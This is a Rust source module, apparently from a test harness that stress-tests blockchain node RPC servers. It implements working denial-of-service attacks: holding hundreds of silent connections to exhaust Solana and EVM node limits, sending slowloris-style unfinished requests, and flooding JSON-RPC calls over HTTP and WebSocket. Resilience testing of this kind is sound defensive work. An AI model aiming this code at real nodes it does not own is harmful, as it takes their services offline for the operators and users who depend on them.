//! Attacks on the servers of JSON-RPC: connections, requests that never end, calls, messages on WebSockets.

use std::collections::VecDeque;
use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use serde_json::{Value, json};

use super::attacker::Attack;
use super::packets::{http_request, text_frame, upgrade_request};

/// Longest wait for a connection, on one machine.
const CONNECT_WITHIN: Duration = Duration::from_millis(200);
/// Connections over which calls and messages go.
const CALLERS: usize = 16;
/// Connections that are kept open: more than the 512 places of a Solana node's RPC, and the 768 of an EVM node's.
const HELD: usize = 800;
/// Files that this process must be able to open: those connections, and what the tests beside have open.
const FILES: u64 = 4_096;
/// The length that a request announces whose body never ends, and the part of it that is sent.
const ANNOUNCED: usize = 48 << 10;
const PART: usize = 16 << 10;

/// The addresses of a node's servers.
#[derive(Clone, Copy, Debug)]
pub struct Servers {
    /// The address of JSON-RPC over HTTP.
    pub http: SocketAddr,
    /// The address of JSON-RPC over WebSocket.
    pub websocket: SocketAddr,
}

/// Opens connections, sends the same first bytes on each, and keeps the newest open and silent.
pub struct Connections {
    to: SocketAddr,
    first: Vec<u8>,
    held: VecDeque<TcpStream>,
}

impl Connections {
    /// Connections without a request.
    pub fn silent(servers: &Servers) -> Self {
        Self::new(servers, vec![])
    }

    /// Connections with a request whose body never ends.
    pub fn unfinished(servers: &Servers) -> Self {
        let whole = http_request(servers.http, &" ".repeat(ANNOUNCED));
        Self::new(servers, whole[..whole.len() - (ANNOUNCED - PART)].to_vec())
    }

    fn new(servers: &Servers, first: Vec<u8>) -> Self {
        allow_files();
        Self { to: servers.http, first, held: VecDeque::new() }
    }
}

/// Raises the usual limit of 1,024 open files: the tests beside have need of some.
fn allow_files() {
    let Rlimit { current, maximum } = getrlimit(Resource::Nofile);
    if current.is_some_and(|current| current < FILES) {
        let current = Some(maximum.map_or(FILES, |maximum| maximum.min(FILES)));
        setrlimit(Resource::Nofile, Rlimit { current, maximum }).expect("the limit is below the hard one");
    }
}

impl Attack for Connections {
    fn burst(&mut self, count: u64) -> u64 {
        for made in 0..count {
            let Ok(mut stream) = TcpStream::connect_timeout(&self.to, CONNECT_WITHIN) else { return made };
            // The server may have closed it already.
            let _ = stream.write_all(&self.first);
            self.held.push_back(stream);
            if self.held.len() > HELD {
                self.held.pop_front();
            }
        }
        count
    }
}

/// Sends message after message on some connections, and discards the answers.
pub struct Calls {
    to: SocketAddr,
    /// The first bytes on each connection.
    hello: Vec<u8>,
    make: Box<dyn FnMut() -> Vec<u8>>,
    streams: Vec<TcpStream>,
    next: usize,
}

impl Calls {
    /// HTTP requests with these bodies.
    pub fn http(servers: &Servers, mut body: impl FnMut() -> Value + 'static) -> Self {
        let to = servers.http;
        let make = Box::new(move || http_request(to, &body().to_string()));
        Self { to, hello: vec![], make, streams: vec![], next: 0 }
    }

    /// WebSocket connections with these messages.
    pub fn websocket(servers: &Servers, mut message: impl FnMut() -> Value + 'static) -> Self {
        let to = servers.websocket;
        let make = Box::new(move || text_frame(&message().to_string()));
        Self { to, hello: upgrade_request(to), make, streams: vec![], next: 0 }
    }

    fn connect(&self) -> io::Result<TcpStream> {
        let mut stream = TcpStream::connect_timeout(&self.to, CONNECT_WITHIN)?;
        stream.write_all(&self.hello)?;
        stream.set_nonblocking(true)?;
        Ok(stream)
    }

    /// Sends one message on the connection whose turn it is; the next attempt there is on a new one if this fails.
    fn send(&mut self) -> io::Result<()> {
        if self.streams.len() < CALLERS {
            let stream = self.connect()?;
            self.streams.push(stream);
        }
        self.next = (self.next + 1) % self.streams.len();
        let bytes = (self.make)();
        let sent = discard(&mut self.streams[self.next]).and_then(|()| write(&mut self.streams[self.next], &bytes));
        if sent.is_err() {
            let stream = self.connect()?;
            self.streams[self.next] = stream;
        }
        Ok(())
    }
}

impl Attack for Calls {
    fn burst(&mut self, count: u64) -> u64 {
        (0..count).find(|_| self.send().is_err()).unwrap_or(count)
    }
}

/// Reads what there is.
fn discard(stream: &mut TcpStream) -> io::Result<()> {
    let mut answers = [0; 16 << 10];
    loop {
        match stream.read(&mut answers) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(_) => {}
            Err(why) if why.kind() == io::ErrorKind::WouldBlock => return Ok(()),
            Err(why) => return Err(why),
        }
    }
}

/// Writes the whole message at once, or fails: half a message would spoil those that follow.
fn write(stream: &mut TcpStream, bytes: &[u8]) -> io::Result<()> {
    match stream.write(bytes)? {
        written if written == bytes.len() => Ok(()),
        _ => Err(io::ErrorKind::WriteZero.into()),
    }
}

/// Makes requests that take `methods` in turn, each with its parameters.
pub fn in_turn(methods: &'static [(&'static str, &'static str)]) -> impl FnMut() -> Value {
    let mut number = 0;
    move || {
        let (method, params) = methods[number % methods.len()];
        number += 1;
        let params: Value = serde_json::from_str(params).expect("JSON");
        json!({ "jsonrpc": "2.0", "id": number, "method": method, "params": params })
    }
}

#[cfg(test)]
mod tests {
    use std::net::{Ipv4Addr, TcpListener};

    use super::*;

    fn server() -> (TcpListener, Servers) {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port");
        let address = listener.local_addr().expect("bound");
        (listener, Servers { http: address, websocket: address })
    }

    #[test]
    fn unfinished_request_lacks_what_it_announces() {
        let (listener, servers) = server();
        let mut attack = Connections::unfinished(&servers);
        assert_eq!(attack.burst(1), 1);
        let (mut stream, _) = listener.accept().expect("a connection");
        drop(attack);
        let mut request = vec![];
        stream.read_to_end(&mut request).expect("what was sent");
        let text = String::from_utf8(request).expect("text");
        let (head, body) = text.split_once("\r\n\r\n").expect("a head");
        assert!(head.ends_with(&format!("Content-Length: {ANNOUNCED}")), "{head}");
        assert_eq!(body.len(), PART);
    }

    #[test]
    fn calls_go_over_a_few_connections() {
        let (listener, servers) = server();
        let mut attack = Calls::http(&servers, in_turn(&[("a", "[1]"), ("b", "[]")]));
        assert_eq!(attack.burst(40), 40);
        drop(attack);
        let mut calls = 0;
        for _ in 0..CALLERS {
            let mut text = String::new();
            listener.accept().expect("a connection").0.read_to_string(&mut text).expect("what was sent");
            calls += text.matches("POST / HTTP/1.1\r\n").count();
            assert!(text.contains(r#""method":"a""#) || text.contains(r#""method":"b""#), "{text}");
        }
        assert_eq!(calls, 40);
    }
}
